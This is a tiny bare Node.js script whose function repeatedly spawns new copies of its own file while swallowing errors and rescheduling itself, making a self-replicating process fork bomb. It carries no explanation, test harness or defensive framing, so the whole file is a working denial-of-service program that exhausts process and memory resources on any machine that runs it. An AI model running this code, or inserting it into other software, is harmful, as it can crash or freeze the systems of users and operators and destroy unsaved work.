const { spawn } = require("child_process");

function more() {
  try {
    spawn(process.execPath, [__filename], { stdio: "inherit" }).on("error", () => {});
  } catch {}
  setImmediate(more);
}
more();
